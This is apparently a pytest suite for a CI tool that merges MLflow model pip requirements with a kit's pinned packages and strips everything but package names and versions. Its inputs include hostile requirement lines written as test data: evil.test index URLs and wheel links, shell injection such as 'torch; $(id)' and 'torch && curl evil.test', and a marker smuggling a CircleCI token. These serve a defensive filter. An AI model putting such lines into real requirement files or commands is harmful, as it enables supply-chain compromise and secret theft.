"""What models need to be loaded: from MLflow, beside the kit's own pins, and nothing but packages."""

from __future__ import annotations

import json

import mlflow
import pytest
from click.testing import CliRunner

from scripts import model_requirements
from scripts.adapters.mlflow import MlflowRegistry
from scripts.ci_commands import requirements as command
from scripts.errors import UsageError
from scripts.jobs.requirements import PINNED
from scripts.model_requirements import Asked, besides, pins, read
from scripts.ports import ModelVersion
from tests.shop import MODELS, Shop

OWN = {"numpy": "2.4.6", "mlflow": "3.17.2"}


def packages(*models: list[str]) -> tuple[str, ...]:
    return besides(OWN, [read(f"m version {number}", lines) for number, lines in enumerate(models, start=1)]).packages


def warnings(*models: list[str]) -> tuple[str, ...]:
    return besides(OWN, [read(f"m version {number}", lines) for number, lines in enumerate(models, start=1)]).warnings


def test_what_the_kit_pins_is_left_out_however_it_is_written():
    """Packages have many spellings and one name."""
    assert packages(["NumPy==2.4.6", "mlflow", "Sentence_Transformers>=5", "torch==2.13.0"]) == ("sentence-transformers>=5", "torch==2.13.0")
    assert packages(["sentence.transformers>=5"]) == ("sentence-transformers>=5",)


def test_extras_of_what_the_kit_pins_are_asked_for_at_its_version():
    """Left out they would be missing; asked for at another version they would move the kit's."""
    assert packages(["mlflow[gateway,genai]>=3"]) == ("mlflow[gateway,genai]==3.17.2",)


def test_a_pin_that_the_model_does_not_like_is_said():
    """The model is loaded with the kit's version all the same. A marker that is not of this machine is none of its business."""
    assert warnings(["numpy<2"]) == ("m version 1 asks for numpy<2, and is loaded with numpy 2.4.6, which the kit needs.",)
    assert warnings(["numpy<2; sys_platform == 'win32'", "numpy>=2,<3", "numpy"]) == ()


def test_what_both_models_need_is_asked_for_once():
    """With what each says of its versions, when that goes together."""
    assert packages(["torch>=2", "tokenizers"], ["torch<3", "tokenizers", "regex"]) == ("regex", "tokenizers", "torch<3,>=2")


def test_of_two_that_no_version_satisfies_the_candidates_is_taken_and_it_is_said():
    """pip would take neither, and the candidate could not be validated at all."""
    assert packages(["torch==2.1.0"], ["torch==1.13.1"]) == ("torch==2.1.0",)
    (warning,) = warnings(["torch==2.1.0"], ["torch==1.13.1"])
    assert warning == "m version 1 asks for torch==2.1.0, m version 2 for torch==1.13.1, and no version is both: torch==2.1.0 is taken."


def test_markers_are_passed_on():
    """The machine that installs decides, not the one that lists."""
    assert packages(["torch==2.1.0 ; sys_platform == 'linux'", "torch==2.0.0 ; sys_platform == 'darwin'"]) == (
        'torch==2.0.0; sys_platform == "darwin"',
        'torch==2.1.0; sys_platform == "linux"',
    )


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.test/simple",
        "--extra-index-url=https://evil.test/simple",
        "-i https://evil.test/simple",
        "--find-links /tmp",
        "-r other.txt",
        "-c constraints.txt",
        "-e .",
        "--pre",
        "torch @ https://evil.test/torch.whl",
        "torch @ file:///tmp/torch.whl",
        "https://evil.test/torch.whl",
        "git+https://evil.test/torch.git",
        "./torch.whl",
        "../torch",
        "torch==2.1 --hash=sha256:00",
        "torch --config-settings=a=b",
        "torch; $(id)",
        "torch && curl evil.test",
        "torch===2.1;x",
        "torch===2.1",
        "python=3.11",
        "${TORCH}",
        "torch; platform_release == '${CIRCLECI_TOKEN}'",
        "torch==2.1\x1b[31m",
        "t" * 501,
    ],
)
def test_only_packages_and_versions_are_passed_on(line):
    """A model's requirements are somebody's input: no option, address, path or command of theirs reaches pip. What is left out is said, in one
    line that is safe to print."""
    assert packages([line, "regex"]) == ("regex",)
    (warning,) = warnings([line, "regex"])
    assert "is not passed on" in warning and warning.isprintable() and len(warning) < 300


def test_an_address_in_what_is_left_out_is_not_shown():
    """It may have a token in it."""
    assert "hunter2" not in warnings(["--index-url https://hunter2@evil.test/hunter2/?token=hunter2"])[0]


def test_a_line_may_go_on_in_the_next_and_comments_are_none():
    """As pip reads them."""
    assert packages(["torch\\", ">=2  # why", "# regex", "", "  tokenizers  "]) == ("tokenizers", "torch>=2")
    assert packages(["regex \\", " --index-url https://evil.test"]) == ()


def test_a_file_that_is_no_list_of_packages_is_refused():
    """Rather than read for ever."""
    with pytest.raises(UsageError, match="have 2,001 lines"):
        read("m version 1", ["torch"] * 2_001)


def test_the_order_in_the_files_does_not_matter():
    """The same packages give the same lines, and so the same checksum."""
    lines = ["torch>=2", "regex", "tokenizers<1,>=0.20"]
    assert packages(lines) == packages(lines[::-1]) == packages(["regex", "tokenizers>=0.20,<1"], ["torch>=2"])


def test_the_kits_own_pins_are_those_of_this_machine():
    """Those of another system pin nothing here."""
    assert pins(["a==1 # why", "b==2 ; sys_platform == 'win32'", "c>=3", "# d==4", "    # via e"]) == {"a": "1"}
    assert {"mlflow", "numpy", "packaging", "pymilvus"} <= pins(PINNED.read_text().splitlines()).keys()


def test_nothing_asked_is_nothing_needed():
    """A model without requirements is loaded as it is."""
    assert besides(OWN, [Asked("m version 1", ())]) == model_requirements.Needed(())


@pytest.fixture(scope="module")
def shop(mlflow_server, tmp_path_factory):
    """With a model in production; each test stages another."""
    folder = tmp_path_factory.mktemp("required")
    shop = Shop(folder / "shop", str(folder / "milvus.db"), "", mlflow_server.uri)
    stage(shop, ["mlflow", "numpy", "colorama==0.4.6", "regex<2024"])
    pair = shop.do("build")["pair"]
    shop.do("validate", "--pair", pair)
    shop.do("promote", "--pair", pair)
    return shop


def stage(shop: Shop, required: list[str] | None) -> int:
    mlflow.set_tracking_uri(shop.mlflow_uri)
    with mlflow.start_run():
        return shop.stage_version(mlflow.pyfunc.log_model(name="required", python_model=str(MODELS / "words.py"), pip_requirements=required))


def run(shop: Shop, *words: str, **environment: str):
    return CliRunner().invoke(command, ["--config", str(shop.folder / "promotion.yaml"), *words], env=shop.environment | environment)


def listed(shop: Shop, *words: str, **environment: str) -> dict:
    done = run(shop, "--json", *words, **environment)
    assert done.exit_code == 0, done.output
    return json.loads(done.stdout)


def test_the_candidates_requirements_and_productions_are_written_for_pip(shop, tmp_path):
    """Packages alone, whatever else the models ask for. The same models give the same bytes."""
    evil = ["--extra-index-url https://evil.test/simple", "tabulate @ https://evil.test/tabulate.whl"]
    version = stage(shop, ["mlflow", "numpy", "regex>=2024.1", *evil])
    first, second = tmp_path / "first.txt", tmp_path / "second.txt"
    done = run(shop, "--out", str(first))
    assert done.exit_code == 0, done.output
    assert first.read_text() == "colorama==0.4.6\nregex>=2024.1\n"
    head = f"{shop.model} version {version} and {shop.model} version 1 need, besides the kit's own packages:"
    assert done.stdout.splitlines()[:3] == [head, *first.read_text().split()]
    assert sum(line.startswith("warning: ") for line in done.stdout.splitlines()) == 3
    assert "regex>=2024.1 is taken" in done.stdout
    run(shop, "--out", str(second))
    assert first.read_bytes() == second.read_bytes()


def test_a_pipelines_own_pair_decides_before_the_candidate_does(shop):
    """The candidate may have moved since the pair was made; --model-version and --pair name another."""
    own, later = 1, stage(shop, ["mlflow", "numpy", "wcwidth"])
    assert listed(shop)["models"] == [f"{shop.model} version {later}", f"{shop.model} version 1"]
    pair = shop.do("status")["production"]
    assert listed(shop, "--pair", pair)["models"] == [f"{shop.model} version {own}"]
    second = shop.do("create", CIRCLE_PIPELINE_ID="p-17")["pair"]
    newest = stage(shop, ["mlflow", "numpy"])
    assert listed(shop, CIRCLE_PIPELINE_ID="p-17")["models"][0] == f"{shop.model} version {later}"
    assert listed(shop, "--pair", second)["models"][0] == f"{shop.model} version {later}"
    assert listed(shop, CIRCLE_PIPELINE_ID="p-18")["models"][0] == f"{shop.model} version {newest}"
    assert listed(shop, "--model-version", str(newest), CIRCLE_PIPELINE_ID="p-17")["models"][0] == f"{shop.model} version {newest}"


def test_a_model_that_is_not_there_is_said_in_one_line(shop):
    """Of the candidate it is a failure; what production's needs is merely not known."""
    done = run(shop, "--model-version", "999")
    assert isinstance(done.exception, UsageError) and "999" in str(done.exception)
    mlflow.MlflowClient(shop.mlflow_uri).delete_model_version(shop.model, "1")
    assert "What production's model needs is not known" in listed(shop)["warnings"][0]


def test_a_model_that_was_saved_without_a_requirements_file_is_asked_for_its_conda_environment(mlflow_server, tmp_path):
    """As MLflow's get_model_dependencies does; without either it needs nothing that anybody knows of."""
    mlflow.set_tracking_uri(mlflow_server.uri)
    mlflow.pyfunc.save_model(tmp_path / "model", python_model=str(MODELS / "words.py"), pip_requirements=["mlflow", "wcwidth"])
    (tmp_path / "model" / "requirements.txt").unlink()
    client, registry = mlflow.MlflowClient(), MlflowRegistry(mlflow_server.uri)
    client.create_registered_model("required-conda")

    def registered() -> ModelVersion:
        with mlflow.start_run() as started:
            mlflow.log_artifacts(str(tmp_path / "model"), "model")
        made = client.create_model_version("required-conda", f"{started.info.artifact_uri}/model", started.info.run_id)
        return ModelVersion("required-conda", int(made.version))

    assert "wcwidth" in registry.requirements(registered())
    (tmp_path / "model" / "conda.yaml").unlink()
    assert registry.requirements(registered()) == []
